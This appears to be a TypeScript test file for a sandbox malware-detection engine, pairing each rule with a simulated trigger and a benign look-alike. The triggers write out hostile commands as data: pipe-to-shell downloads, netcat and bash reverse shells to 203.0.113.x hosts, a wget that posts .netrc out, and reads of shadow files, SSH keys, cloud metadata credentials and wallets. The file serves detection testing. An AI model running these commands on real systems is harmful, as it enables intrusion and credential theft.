// One trigger and one benign look-alike per built-in rule, as event sequences.
import { O, Sim } from './sim.js';

export interface RuleCase {
  id: string;
  trigger: (s: Sim) => void;
  benign: (s: Sim) => void;
}

const sh = (s: Sim, cmd: string) => s.run('/bin/sh', ['sh', '-c', cmd]);
/** The sample (pid 1) connects to `name` (looked up; null: the hard-coded 203.0.113.7) and sends `first`, which the sandbox catches. */
const web = (s: Sim, name: string | null, port: number, first: string): void => {
  const address = name === null ? '203.0.113.7' : s.lookup(name);
  s.connect(1, address, port, -115);
  s.caught(address, port, first);
};
/** The sample (pid 1) connects to a mail server by name on port 25 and holds `dialogue` with the sandbox's. */
const mail = (s: Sim, dialogue: string): void => {
  const address = s.lookup('mx.example.test');
  s.connect(1, address, 25, -115);
  s.caughtMail(address, 25, dialogue);
};
/**
 * python's pty.spawn('/bin/sh') as strace shows it: /dev/ptmx opened, the other end taken with
 * TIOCGPTPEER, a child that starts a session and takes it as its terminal (TIOCSCTTY), then runs
 * the shell. `takesTerminal` false: the child starts the session but never takes the terminal.
 */
const ptySpawn = (s: Sim, takesTerminal: boolean): void => {
  const py = s.run('/usr/bin/python3', ['python3', '-c', 'import pty; pty.spawn("/bin/sh")']);
  const master = s.open(py, '/dev/ptmx', O.rw);
  s.sys(py, 'ioctl', [master, 0x5441, 0x102], master + 1);
  const child = s.fork(py);
  s.sys(child, 'setsid', [], child);
  if (takesTerminal) s.sys(child, 'ioctl', [master + 1, 0x540e, 0], 0);
  s.exec(child, '/bin/sh', ['/bin/sh']);
};
/** One process logs in to the FTP servers of `n` names, one after the other. */
const ftpLogins = (s: Sim, n: number): void => {
  for (let i = 0; i < n; i++) {
    const address = s.lookup(`ftp${i}.example.test`);
    s.connect(1, address, 21, -115);
    s.caughtFtp(address, 21, 'USER admin\r\nPASS admin\r\nQUIT\r\n');
  }
};
const b64 = (s: string): string => Buffer.from(s).toString('base64');
const http = (method: string, path: string, host: string, body = ''): string =>
  `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: Mozilla/5.0\r\n${body ? `Content-Length: ${body.length}\r\n` : ''}\r\n${body}`;

export const CASES: RuleCase[] = [
  // execution
  { id: 'ST-EXE-001', trigger: (s) => sh(s, 'curl -fsSL http://203.0.113.5/x.sh | sh'), benign: (s) => sh(s, 'curl -fsSL http://203.0.113.5/x.sh -o x.sh') },
  { id: 'ST-EXE-014', trigger: (s) => ptySpawn(s, true), benign: (s) => ptySpawn(s, false) },
  { id: 'ST-EXE-002', trigger: (s) => s.run('/usr/bin/python3', ['python3', '-c', 'import socket,os;s=socket.socket();s.connect(("203.0.113.5",4444))']),
    benign: (s) => s.run('/usr/bin/python3', ['python3', '-c', 'print(sum(range(10)))']) },
  { id: 'ST-EXE-003', trigger: (s) => sh(s, 'echo ZWNobyBoaQ== | base64 -d | sh'), benign: (s) => sh(s, 'base64 -d data.b64 > data.bin') },
  { id: 'ST-EXE-004', trigger: (s) => s.run('/tmp/.x/miner', ['./miner']), benign: (s) => s.run('/usr/bin/ls', ['ls', '/tmp']) },
  // a downloaded file the kernel cannot load (empty, another architecture): ENOEXEC; one from the image that fails is not a drop
  { id: 'ST-EXE-015', trigger: (s) => { s.open(1, '/tmp/.x86', O.w); s.sys(1, 'execve', [0, 0, 0], -8, { path: '/tmp/.x86', argv: ['./.x86'] }); },
    benign: (s) => s.sys(1, 'execve', [0, 0, 0], -8, { path: '/usr/bin/qemu-arm', argv: ['qemu-arm'] }) },
  { id: 'ST-EXE-005', trigger: (s) => { s.open(1, '/root/payload', O.w); s.run('/root/payload', ['./payload']); },
    benign: (s) => { s.open(1, '/root/notes.txt', O.w); s.run('/usr/bin/cat', ['cat', '/root/notes.txt']); } },
  { id: 'ST-EXE-006', trigger: (s) => { const p = s.fork(1); s.exec(p, '/memfd:payload (deleted)', ['[kworker]']); },
    benign: (s) => s.run('/usr/bin/env', ['env']) },
  { id: 'ST-EXE-007', trigger: (s) => { const p = s.fork(1); s.sys(p, 'memfd_create', [0, 1], 3, { path: 'x' }); s.exec(p, '/memfd:x (deleted)', ['x']); },
    benign: (s) => { const p = s.fork(1); s.exec(p, '/usr/bin/true', ['true']); s.sys(p, 'memfd_create', [0, 1], 3, { path: 'y' }); } },
  { id: 'ST-EXE-008', trigger: (s) => { const py = s.run('/usr/bin/python3', ['python3', 'a.py']); s.run('/bin/sh', ['sh', '-c', 'id'], { ppid: py }); },
    benign: (s) => { const py = s.run('/usr/bin/python3', ['python3', 'a.py']); s.run('/usr/bin/sort', ['sort', 'x.csv'], { ppid: py }); } },
  { id: 'ST-EXE-009', trigger: (s) => s.run('/usr/bin/nc', ['nc', '203.0.113.5', '4444', '-e', '/bin/sh']), benign: (s) => s.run('/usr/bin/nc', ['nc', '-z', '127.0.0.1', '80']) },
  { id: 'ST-EXE-010', trigger: (s) => { const p = s.fork(1); const fd = s.connect(p, '203.0.113.5', 4444, 0); s.dup2(p, fd, 0); },
    benign: (s) => { const p = s.fork(1); const fd = s.open(p, '/root/out.log', O.w); s.dup2(p, fd, 1); } },
  { id: 'ST-EXE-011', trigger: (s) => { const p = s.fork(1); const fd = s.connect(p, '203.0.113.5', 4444, 0); s.dup2(p, fd, 0).dup2(p, fd, 1); s.exec(p, '/bin/bash', ['bash', '-i']); },
    benign: (s) => { const p = s.fork(1); const fd = s.open(p, '/root/in.txt'); s.dup2(p, fd, 0); s.exec(p, '/bin/bash', ['bash', 'job.sh']); } },
  // sh -i fed by a pipe to nc, or a python subprocess of sh -i: the shell is not the process that holds the socket
  { id: 'ST-EXE-012', trigger: (s) => { const py = s.run('/usr/bin/python3', ['python3', '-']); s.run('/bin/sh', ['/bin/sh', '-i'], { ppid: py }); },
    benign: (s) => { s.run('/bin/sh', ['sh', '-c', "sed -i 's/a/b/' notes.txt"]); s.run('/bin/bash', ['bash', 'install.sh', '-i']); } },
  { id: 'ST-EXE-013', trigger: (s) => s.run('/usr/bin/python3', ['python3', '-c', "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"]),
    benign: (s) => s.run('/usr/bin/python3', ['python3', '-c', "import base64;print(base64.b64decode('aGk='))"]) },
  // persistence
  { id: 'ST-PER-001', trigger: (s) => s.open(1, '/etc/cron.d/update', O.w), benign: (s) => s.open(1, '/etc/crontab', O.r) },
  { id: 'ST-PER-002', trigger: (s) => s.run('/usr/bin/crontab', ['crontab', '/tmp/cron.txt']), benign: (s) => s.run('/usr/bin/crontab', ['crontab', '-l']) },
  { id: 'ST-PER-003', trigger: (s) => s.open(1, '/etc/systemd/system/backdoor.service', O.w), benign: (s) => s.open(1, '/etc/systemd/system/multi-user.target.wants', O.dir) },
  { id: 'ST-PER-004', trigger: (s) => s.open(1, '/root/.bashrc', O.a), benign: (s) => s.open(1, '/root/.bashrc', O.r) },
  { id: 'ST-PER-005', trigger: (s) => s.open(1, '/etc/ld.so.preload', O.w), benign: (s) => s.open(1, '/etc/ld.so.preload', O.r, -2) },
  { id: 'ST-PER-006', trigger: (s) => s.open(1, '/root/.ssh/authorized_keys', O.a), benign: (s) => s.open(1, '/root/.ssh/authorized_keys', O.r, -2) },
  { id: 'ST-PER-007', trigger: (s) => s.open(1, '/etc/rc.local', O.w), benign: (s) => s.open(1, '/etc/init.d/cron', O.r) },
  { id: 'ST-PER-008', trigger: (s) => s.run('/usr/sbin/useradd', ['useradd', '-o', '-u', '0', 'sysadm']), benign: (s) => s.run('/usr/bin/id', ['id', '-u']) },
  { id: 'ST-PER-009', trigger: (s) => s.open(1, '/etc/passwd', O.a), benign: (s) => s.open(1, '/etc/passwd', O.r) },
  { id: 'ST-PER-010', trigger: (s) => s.run('/usr/bin/systemctl', ['systemctl', 'enable', 'backdoor.service']), benign: (s) => s.run('/usr/bin/systemctl', ['systemctl', 'status']) },
  { id: 'ST-PER-011', trigger: (s) => s.open(1, '/root/.config/autostart/x.desktop', O.w), benign: (s) => s.open(1, '/root/.config/app/settings.ini', O.w) },
  { id: 'ST-PER-012', trigger: (s) => s.open(1, '/etc/modprobe.d/net-pf-38.conf', O.w), benign: (s) => s.open(1, '/etc/modprobe.d/blacklist.conf', O.r) },
  { id: 'ST-PER-013', trigger: (s) => s.open(1, '/etc/pam.d/common-auth', O.a), benign: (s) => s.open(1, '/etc/pam.d/common-auth', O.r) },
  { id: 'ST-PER-014', trigger: (s) => s.open(1, '/etc/ld.so.conf.d/x.conf', O.w), benign: (s) => s.open(1, '/etc/ld.so.conf.d/libc.conf', O.r) },
  // privilege escalation
  { id: 'ST-PRV-001', trigger: (s) => s.chmod(1, '/tmp/sh', 0o4755), benign: (s) => s.chmod(1, '/root/run.sh', 0o755) },
  { id: 'ST-PRV-002', trigger: (s) => s.run('/usr/bin/chmod', ['chmod', 'u+s', '/tmp/sh']), benign: (s) => s.run('/usr/bin/chmod', ['chmod', '0644', 'notes.txt']) },
  { id: 'ST-PRV-003', trigger: (s) => s.open(1, '/etc/sudoers.d/99-nopasswd', O.w), benign: (s) => s.open(1, '/etc/sudo.conf', O.r) },
  { id: 'ST-PRV-004', trigger: (s) => s.run('/usr/sbin/setcap', ['setcap', 'cap_setuid+ep', '/tmp/python3']), benign: (s) => s.run('/usr/sbin/getcap', ['getcap', '/usr/bin/ping']) },
  { id: 'ST-PRV-005', trigger: (s) => { const p = s.run('/tmp/exp', ['exp'], { uid: 1000 }); s.sys(p, 'setuid', [0], -1); },
    benign: (s) => { const p = s.run('/usr/sbin/daemon', ['daemon']); s.sys(p, 'setuid', [1000], 0); } },
  { id: 'ST-PRV-006', trigger: (s) => s.run('/usr/bin/sudo', ['sudo', '-n', 'id']), benign: (s) => s.run('/usr/bin/id', ['id']) },
  { id: 'ST-PRV-007', trigger: (s) => s.sys(1, 'ptrace', [16, 1, 0, 0], -1), benign: (s) => s.sys(1, 'getppid', [], 0) },
  { id: 'ST-PRV-008', trigger: (s) => s.sys(1, 'process_vm_readv', [1, 0, 1, 0, 1, 0], -1), benign: (s) => s.sys(1, 'readv', [3, 0, 1], 10) },
  // defence evasion
  { id: 'ST-DEF-001', trigger: (s) => s.open(1, '/var/log/auth.log', O.w), benign: (s) => s.open(1, '/var/log/auth.log', O.r) },
  { id: 'ST-DEF-002', trigger: (s) => s.unlink(1, '/root/.bash_history'), benign: (s) => s.unlink(1, '/root/old_notes.txt') },
  { id: 'ST-DEF-003', trigger: (s) => s.run('/usr/bin/touch', ['touch', '-r', '/bin/ls', '/tmp/.x']), benign: (s) => s.run('/usr/bin/touch', ['touch', 'stamp']) },
  // busybox names itself after its applet at every re-exec: not a disguise
  // the system's busybox renames itself to the applet; a copy merely called busybox is no exception
  { id: 'ST-DEF-004', trigger: (s) => s.sys(s.run('/tmp/busybox', ['sleep', '1']), 'prctl', [15, 0], 0), benign: (s) => s.sys(s.run('/bin/busybox', ['sleep', '1']), 'prctl', [15, 0], 0) },
  { id: 'ST-DEF-005', trigger: (s) => s.run('/tmp/.x/bot', ['[kworker/0:1]']), benign: (s) => s.run('/usr/bin/sleep', ['sleep', '1']) },
  { id: 'ST-DEF-006', trigger: (s) => s.open(1, '/tmp/.cache-x', O.w), benign: (s) => s.open(1, '/tmp/report.txt', O.w) },
  // apt's own test file in its lists directory; the same name from a program the sample wrote, or hidden elsewhere by apt, still fires
  { id: 'ST-DEF-006', trigger: (s) => { s.open(1, '/tmp/apt-get', O.w); s.open(s.run('/tmp/apt-get', ['apt-get', 'update']), '/var/lib/apt/lists/partial/.apt-acquire-privs-test.Cyhxb2', O.w); },
    benign: (s) => s.open(s.run('/usr/bin/apt-get', ['apt-get', 'update']), '/var/lib/apt/lists/partial/.apt-acquire-privs-test.Cyhxb2', O.w) },
  { id: 'ST-DEF-006', trigger: (s) => s.open(s.run('/usr/bin/apt-get', ['apt-get', 'update']), '/tmp/.x', O.w),
    benign: (s) => s.open(s.run('/usr/bin/dpkg', ['dpkg', '-i', 'x.deb']), '/var/lib/dpkg/.dpkg-new', O.w) },
  { id: 'ST-DEF-007', trigger: (s) => s.run('/usr/sbin/iptables', ['iptables', '-F']), benign: (s) => s.run('/usr/sbin/iptables', ['iptables', '-L']) },
  // SELinux's configuration written (a redirect; sed -i's rename of its copy), tried where it does not exist too
  { id: 'ST-DEF-007', trigger: (s) => s.open(1, '/etc/selinux/config', O.w, -2), benign: (s) => s.open(1, '/etc/selinux/config', O.r, -2) },
  { id: 'ST-DEF-007', trigger: (s) => s.rename(s.run('/usr/bin/sed', ['sed', '-i', 's/enforcing/disabled/', '/etc/selinux/config']), '/etc/selinux/sedX1b2c3', '/etc/selinux/config'),
    benign: (s) => s.rename(s.run('/usr/bin/sed', ['sed', '-i', 's/a/b/', '/etc/app.conf']), '/etc/sedX1b2c3', '/etc/app.conf') },
  { id: 'ST-DEF-008', trigger: (s) => { const p = s.run('/root/dropper', ['./dropper']); s.unlink(s.run('/usr/bin/rm', ['rm', '-f', '/root/dropper'], { ppid: p }), '/root/dropper'); },
    benign: (s) => { const p = s.run('/root/dropper', ['./dropper']); s.unlink(p, '/root/tmpfile'); } },
  { id: 'ST-DEF-009', trigger: (s) => s.chmod(1, '/tmp/payload', 0o755), benign: (s) => s.chmod(1, '/tmp/data.txt', 0o644) },
  { id: 'ST-DEF-010', trigger: (s) => s.sys(1, 'ptrace', [0, 0, 0, 0], -1), benign: (s) => s.sys(1, 'getpid', [], 1) },
  { id: 'ST-DEF-011', trigger: (s) => s.run('/usr/bin/chattr', ['chattr', '+i', '/etc/passwd']), benign: (s) => s.run('/usr/bin/lsattr', ['lsattr', '/etc/passwd']) },
  { id: 'ST-DEF-012', trigger: (s) => sh(s, 'unset HISTFILE; id'), benign: (s) => sh(s, 'echo $HISTFILE') },
  // a python copied under another name is a disguise; a copy under its own name, or a busybox
  // copied as one of its applets, is not
  { id: 'ST-DEF-013', trigger: (s) => { s.copy('/usr/bin/python3', '/tmp/update'); s.run('/tmp/update', ['update', 'x.py']); },
    benign: (s) => { s.copy('/usr/bin/python3', '/tmp/python3'); s.run('/tmp/python3', ['python3', 'x.py']); s.copy('/bin/busybox', '/tmp/nc'); s.run('/tmp/nc', ['nc', '-l']); } },
  // the loader maps a preloaded library from /tmp executable; the linker that built it only reads it
  { id: 'ST-DEF-014', trigger: (s) => { const p = s.run('/usr/bin/true', ['true']); const fd = s.open(p, '/tmp/x.so', O.r | 0o2000000); s.sys(p, 'mmap', [0, 8192, 5, 2050, fd, 0], 0x7f0000000000); },
    benign: (s) => { const p = s.run('/usr/bin/ld', ['ld', '-shared', '-o', '/tmp/x.so']); const fd = s.open(p, '/tmp/x.so', O.rwc); s.sys(p, 'mmap', [0, 8192, 3, 1, fd, 0], 0x7f0000000000); } },
  // a library the sample wrote to /usr/local/lib, preloaded into id; the image's own libc mapped, and a library it only read
  { id: 'ST-DEF-016', trigger: (s) => { s.open(1, '/usr/local/lib/libsys.so', O.w); const p = s.run('/usr/bin/id', ['id']); const fd = s.open(p, '/usr/local/lib/libsys.so', O.r | 0o2000000); s.sys(p, 'mmap', [0, 8192, 5, 2050, fd, 0], 0x7f0000000000); },
    benign: (s) => { const p = s.run('/usr/bin/id', ['id']); const fd = s.open(p, '/lib/x86_64-linux-gnu/libc.so.6', O.r | 0o2000000); s.sys(p, 'mmap', [0, 8192, 5, 2050, fd, 0], 0x7f0000000000); s.open(1, '/usr/local/lib/data.bin', O.w); const d = s.open(p, '/usr/local/lib/data.bin', O.r); s.sys(p, 'mmap', [0, 8192, 1, 2, d, 0], 0x7f0000100000); } },
  // python setting /bin/ls's times on its implant; useradd keeping its backup's times
  // echo ... >> /etc/hosts, sed -i on it; the resolver's read is no change
  { id: 'ST-DEF-017', trigger: (s) => s.open(1, '/etc/hosts', O.a), benign: (s) => s.open(s.run('/usr/bin/getent', ['getent', 'hosts', 'db']), '/etc/hosts', O.r | 0o2000000) },
  { id: 'ST-DEF-017', trigger: (s) => s.rename(s.run('/usr/bin/sed', ['sed', '-i', '$a 127.0.0.1 pool.example.test', '/etc/hosts']), '/etc/sedQ9x8y7', '/etc/hosts'),
    benign: (s) => s.rename(1, '/etc/hosts', '/tmp/hosts.copy') },
  // a bot opening the watchdog (absent here: the attempt counts), and one that calls itself watchdog;
  // the image's watchdog daemon is no bot
  { id: 'ST-DEF-018', trigger: (s) => s.open(1, '/dev/watchdog', O.rw, -2), benign: (s) => s.open(1, '/dev/urandom', O.r) },
  { id: 'ST-DEF-018', trigger: (s) => { s.open(1, '/tmp/watchdog', O.w); s.open(s.run('/tmp/watchdog', ['watchdog']), '/dev/watchdog0', O.w, -2); },
    benign: (s) => s.open(s.run('/usr/sbin/watchdog', ['watchdog']), '/dev/watchdog', O.w) },
  { id: 'ST-DEF-015', trigger: (s) => s.sys(s.run('/usr/bin/python3', ['python3', '-']), 'utimensat', [-100, 0, 0x7ffc0000, 0], 0, { path: '/usr/local/bin/dbus-daemon' }),
    benign: (s) => { s.sys(s.run('/usr/sbin/useradd', ['useradd', 'svc']), 'utimensat', [-100, 0, 0x7ffc0000, 0], 0, { path: '/etc/passwd-' }); s.sys(s.run('/usr/bin/python3', ['python3', '-']), 'utimensat', [-100, 0, 0x7ffc0000, 0], 0, { path: '/root/build/out.txt' }); } },
  // credential access
  { id: 'ST-CRD-001', trigger: (s) => { const p = s.run('/usr/bin/cat', ['cat', '/etc/shadow']); s.open(p, '/etc/shadow', O.r, -13); }, benign: (s) => s.open(1, '/etc/passwd', O.r) },
  { id: 'ST-CRD-002', trigger: (s) => s.open(1, '/home/user/.ssh/id_ed25519', O.r), benign: (s) => s.open(1, '/home/user/.ssh/id_ed25519.pub', O.r) },
  { id: 'ST-CRD-003', trigger: (s) => s.open(1, '/home/user/.aws/credentials', O.r), benign: (s) => s.open(1, '/home/user/.config/app.conf', O.r) },
  { id: 'ST-CRD-004', trigger: (s) => s.open(1, '/root/.ssh/id_rsa', O.r), benign: (s) => s.open(1, '/root/.ssh/config', O.r, -2) },
  // programs that read their own: wget its ~/.netrc, an interactive bash its history; not when the
  // sample names the file, reads it with another program, or wrote the program
  { id: 'ST-CRD-003', trigger: (s) => s.open(s.run('/usr/bin/wget', ['wget', '--post-file=/root/.netrc', 'http://203.0.113.9/']), '/root/.netrc', O.r),
    benign: (s) => s.open(s.run('/usr/bin/wget', ['wget', 'http://203.0.113.9/x']), '/root/.netrc', O.r) },
  { id: 'ST-CRD-004', trigger: (s) => { s.open(1, '/tmp/wget', O.w); s.open(s.run('/tmp/wget', ['wget', 'http://203.0.113.9/x']), '/root/.netrc', O.r); },
    benign: (s) => s.open(s.run('/usr/bin/wget', ['wget', 'http://203.0.113.9/x']), '/root/.netrc', O.r) },
  { id: 'ST-CRD-004', trigger: (s) => s.open(s.run('/usr/bin/cat', ['cat', '/root/.bash_history']), '/root/.bash_history', O.r),
    benign: (s) => s.open(s.run('/usr/bin/bash', ['bash', '-i']), '/root/.bash_history', O.r) },
  { id: 'ST-CRD-005', trigger: (s) => s.open(1, '/home/user/.mozilla/firefox/x.default/logins.json', O.r), benign: (s) => s.open(1, '/home/user/Documents/list.json', O.r) },
  { id: 'ST-CRD-006', trigger: (s) => s.run('/usr/bin/grep', ['grep', '-ri', 'password', '/etc']), benign: (s) => s.run('/usr/bin/grep', ['grep', '-c', 'error', 'app.log']) },
  { id: 'ST-CRD-007', trigger: (s) => s.open(1, '/proc/42/mem', O.r), benign: (s) => s.open(1, '/proc/self/mem', O.r) },
  { id: 'ST-CRD-008', trigger: (s) => s.open(1, '/root/.gnupg/private-keys-v1.d/ABC.key', O.r), benign: (s) => s.open(1, '/root/.gnupg/pubring.kbx', O.r) },
  { id: 'ST-CRD-009', trigger: (s) => { const p = s.run('/usr/bin/cat', ['cat', '/home/user/.mysql_history']); s.open(p, '/home/user/.mysql_history', O.r); },
    benign: (s) => { const p = s.run('/usr/bin/cat', ['cat', 'history.txt']); s.open(p, '/root/history.txt', O.r); } },
  { id: 'ST-CRD-010', trigger: (s) => s.open(1, '/home/user/.bitcoin/wallet.dat', O.r), benign: (s) => s.open(1, '/home/user/.bitcoin.txt', O.r) },
  { id: 'ST-CRD-011', trigger: (s) => { s.chdir(1, '/tmp'); s.sys(1, 'symlinkat', [0, -100, 0], 0, { path: '../etc/shadow', path2: 'x' }); },
    benign: (s) => s.sys(1, 'symlinkat', [0, -100, 0], 0, { path: '/usr/bin/python3', path2: '/tmp/py' }) },
  { id: 'ST-CRD-012', trigger: (s) => s.sys(1, 'linkat', [-100, 0, -100, 0, 0], 0, { path: '/etc/shadow', path2: '/tmp/x' }),
    benign: (s) => { const p = s.run('/usr/sbin/useradd', ['useradd', 'svc']); s.sys(p, 'linkat', [-100, 0, -100, 0, 0], 0, { path: '/etc/shadow', path2: '/etc/shadow-' }); s.rename(1, '/tmp/a', '/tmp/b'); } },
  // discovery
  // the instance metadata service: contacted (a warning), and asked for the instance's credentials
  { id: 'ST-CRD-014', trigger: (s) => s.connect(s.run('/usr/bin/curl', ['curl', 'http://169.254.169.254/latest/meta-data/']), '169.254.169.254', 80, -115),
    benign: (s) => s.connect(s.run('/usr/bin/curl', ['curl', 'http://169.254.1.1/']), '169.254.1.1', 80, -115) },
  { id: 'ST-CRD-014', trigger: (s) => s.connect(1, s.lookup('metadata.google.internal'), 80, -115), benign: (s) => s.connect(1, s.lookup('metadata.example.test'), 80, -115) },
  { id: 'ST-CRD-015', trigger: (s) => { s.connect(1, '169.254.169.254', 80, -115); s.caught('169.254.169.254', 80, http('GET', '/latest/meta-data/iam/security-credentials/', '169.254.169.254')); },
    benign: (s) => { s.connect(1, '169.254.169.254', 80, -115); s.caught('169.254.169.254', 80, http('GET', '/latest/meta-data/instance-id', '169.254.169.254')); } },
  { id: 'ST-CRD-015', trigger: (s) => web(s, 'metadata.google.internal', 80, http('GET', '/computeMetadata/v1/instance/service-accounts/default/token', 'metadata.google.internal')),
    benign: (s) => web(s, 'www.example.test', 80, http('GET', '/computeMetadata/v1/instance/service-accounts/default/token', 'www.example.test')) },
  // a pod's token, by cat and by kubectl (its own client)
  { id: 'ST-CRD-016', trigger: (s) => s.open(s.run('/usr/bin/cat', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']), '/var/run/secrets/kubernetes.io/serviceaccount/token'),
    benign: (s) => s.open(s.run('/usr/local/bin/kubectl', ['kubectl', 'get', 'pods']), '/var/run/secrets/kubernetes.io/serviceaccount/token') },
  // another process's environment, by cat and by the image's ps e
  { id: 'ST-CRD-017', trigger: (s) => s.open(s.run('/usr/bin/cat', ['cat', '/proc/1/environ']), '/proc/1/environ'),
    benign: (s) => { const ps = s.run('/usr/bin/ps', ['ps', 'e']); s.open(ps, '/proc/1/environ'); s.open(ps, '/proc/1/cmdline'); } },
  { id: 'ST-DIS-001', trigger: (s) => s.run('/usr/bin/uname', ['uname', '-a']), benign: (s) => s.run('/usr/bin/date', ['date']) },
  { id: 'ST-DIS-002', trigger: (s) => s.run('/usr/bin/whoami', ['whoami']), benign: (s) => s.run('/usr/bin/wc', ['wc', '-l', 'x']) },
  { id: 'ST-DIS-003', trigger: (s) => s.run('/usr/sbin/ip', ['ip', 'addr']), benign: (s) => s.run('/usr/bin/cut', ['cut', '-d,', '-f1']) },
  { id: 'ST-DIS-004', trigger: (s) => s.run('/usr/bin/ps', ['ps', 'aux']), benign: (s) => s.run('/usr/bin/sort', ['sort']) },
  { id: 'ST-DIS-005', trigger: (s) => { for (let i = 1; i <= 12; i++) s.open(1, `/proc/${i}/cmdline`, O.r); },
    benign: (s) => { for (let i = 0; i < 12; i++) s.open(1, '/proc/self/status', O.r); } },
  { id: 'ST-DIS-006', trigger: (s) => s.sys(1, 'access', [0, 0], -2, { path: '/.dockerenv' }), benign: (s) => s.sys(1, 'access', [0, 0], 0, { path: '/etc/hosts' }) },
  { id: 'ST-DIS-007', trigger: (s) => s.run('/usr/bin/nmap', ['nmap', '-sS', '10.0.0.0/24']), benign: (s) => s.run('/usr/bin/ping', ['ping', '-c1', '127.0.0.1']) },
  { id: 'ST-DIS-008', trigger: (s) => { const p = s.run('/usr/bin/cat', ['cat', '/etc/passwd']); s.open(p, '/etc/passwd'); },
    benign: (s) => { const p = s.run('/usr/bin/ls', ['ls', '-l']); s.open(p, '/etc/passwd'); } },
  { id: 'ST-DIS-009', trigger: (s) => s.run('/usr/bin/pgrep', ['pgrep', '-f', 'falco']), benign: (s) => s.run('/usr/bin/pgrep', ['pgrep', '-f', 'python']) },
  { id: 'ST-DIS-010', trigger: (s) => { for (let i = 1; i <= 22; i++) s.connect(1, `198.51.100.${i}`, 445); },
    benign: (s) => { for (let i = 1; i <= 22; i++) s.connect(1, '198.51.100.7', 443); } },
  { id: 'ST-DIS-011', trigger: (s) => { for (let p = 20; p < 40; p++) s.connect(1, '127.0.0.1', p, -111); },
    benign: (s) => { for (let i = 0; i < 20; i++) s.connect(1, '127.0.0.1', 8080, -111); } },
  { id: 'ST-DIS-012', trigger: (s) => s.open(s.run('/usr/bin/cat', ['cat', '/proc/net/tcp']), '/proc/net/tcp', O.r),
    benign: (s) => s.open(s.run('/usr/bin/cat', ['cat', '/proc/net/protocols']), '/proc/net/protocols', O.r) },
  // command and control, lateral movement, exfiltration
  { id: 'ST-C2-001', trigger: (s) => s.connect(1, '203.0.113.9', 443), benign: (s) => s.connect(1, '127.0.0.1', 8080, 0) },
  // a lookup through the sandbox's resolver is no connection out; the sample's own resolver is
  { id: 'ST-C2-001', trigger: (s) => s.connect(1, '8.8.8.8', 53), benign: (s) => s.connect(1, '192.0.2.53', 53, 0) },
  { id: 'ST-C2-002', trigger: (s) => s.connect(1, '203.0.113.9', 3333), benign: (s) => s.connect(1, '203.0.113.9', 443) },
  { id: 'ST-C2-010', trigger: (s) => s.connect(1, s.lookup('gulf.moneroocean.stream'), 443), benign: (s) => s.connect(1, s.lookup('www.moneroocean-news.example'), 443) },
  // a Java miner: its dual-stack socket connects to the IPv4-mapped form of the pool's answer
  { id: 'ST-C2-010', trigger: (s) => s.connect(1, `::ffff:${s.lookup('gulf.moneroocean.stream')}`, 443), benign: (s) => s.connect(1, `::ffff:${s.lookup('www.moneroocean-news.example')}`, 443) },
  { id: 'ST-C2-011', trigger: (s) => s.connect(1, s.lookup('c2-x8k.duckdns.org'), 8080), benign: (s) => { s.lookup('c2-x8k.duckdns.org'); s.connect(1, s.lookup('duckdns.org.example'), 8080); } },
  { id: 'ST-C2-003', trigger: (s) => s.connect(1, '203.0.113.9', 4444), benign: (s) => s.connect(1, '203.0.113.9', 80) },
  { id: 'ST-C2-004', trigger: (s) => s.run('/usr/sbin/iodine', ['iodine', '-f', 't.example.org']), benign: (s) => s.run('/usr/bin/dig', ['dig', 'example.org']) },
  { id: 'ST-C2-005', trigger: (s) => s.run('/usr/bin/ssh', ['ssh', '-N', '-R', '9000:localhost:22', 'u@203.0.113.9']), benign: (s) => s.run('/usr/bin/ssh', ['ssh', '-V']) },
  { id: 'ST-C2-006', trigger: (s) => s.run('/usr/bin/wget', ['wget', 'http://203.0.113.9/bot']), benign: (s) => s.run('/usr/bin/wget', ['wget', '--version']) },
  { id: 'ST-C2-007', trigger: (s) => { const w = s.run('/usr/bin/wget', ['wget', '-O', '/tmp/bot', 'http://203.0.113.9/bot']); s.open(w, '/tmp/bot', O.w); s.run('/tmp/bot', ['/tmp/bot']); },
    benign: (s) => { s.run('/usr/bin/wget', ['wget', '--version']); s.run('/usr/bin/ls', ['ls']); } },
  { id: 'ST-C2-007', trigger: (s) => { const py = s.run('/usr/bin/python3', ['python3', 'get.py']); s.connect(py, '203.0.113.9', 80, 0); s.open(py, '/tmp/upd', O.w); s.run('/tmp/upd', ['/tmp/upd'], { ppid: py }); },
    benign: (s) => { const py = s.run('/usr/bin/python3', ['python3', 'get.py']); s.connect(py, '127.0.0.1', 8000, 0); s.open(py, '/tmp/upd', O.w); s.run('/tmp/upd', ['/tmp/upd'], { ppid: py }); } },
  // the download's run refused by the kernel (an empty body, another architecture) is the chain too
  { id: 'ST-C2-007', trigger: (s) => { const w = s.run('/usr/bin/wget', ['wget', '-O', '/tmp/.x86', 'http://203.0.113.9/x86']); s.open(w, '/tmp/.x86', O.w); s.sys(1, 'execve', [0, 0, 0], -8, { path: '/tmp/.x86', argv: ['./.x86'] }); },
    benign: (s) => { s.open(1, '/tmp/.x86', O.w); s.sys(1, 'execve', [0, 0, 0], -8, { path: '/tmp/.x86', argv: ['./.x86'] }); } },
  { id: 'ST-C2-008', trigger: (s) => { const fd = s.socket(1); s.sys(1, 'bind', [fd, 0, 16], 0, { addr: { family: 'inet', address: '0.0.0.0', port: 4444 } }); s.sys(1, 'listen', [fd, 1], 0); },
    benign: (s) => { const fd = s.socket(1, 1, 1); s.sys(1, 'listen', [fd, 1], 0); } },
  { id: 'ST-C2-009', trigger: (s) => { const fd = s.socket(1, 2, 2); s.sys(1, 'sendto', [fd, 0, 5, 0, 0, 16], 5, { addr: { family: 'inet', address: '203.0.113.9', port: 53 } }); },
    benign: (s) => { const fd = s.socket(1, 2, 2); s.sys(1, 'sendto', [fd, 0, 5, 0, 0, 16], 5, { addr: { family: 'inet', address: '127.0.0.53', port: 53 } }); } },
  // musl's resolver sends each lookup with sendto: to the sandbox's resolver, no datagram out
  { id: 'ST-C2-009', trigger: (s) => { const fd = s.socket(1, 2, 2); s.sys(1, 'sendto', [fd, 0, 5, 0, 0, 16], 5, { addr: { family: 'inet', address: '192.0.2.53', port: 5353 } }); },
    benign: (s) => { const fd = s.socket(1, 2, 2); s.sys(1, 'sendto', [fd, 0, 5, 0, 0, 16], 5, { addr: { family: 'inet', address: '192.0.2.53', port: 53 } }); } },
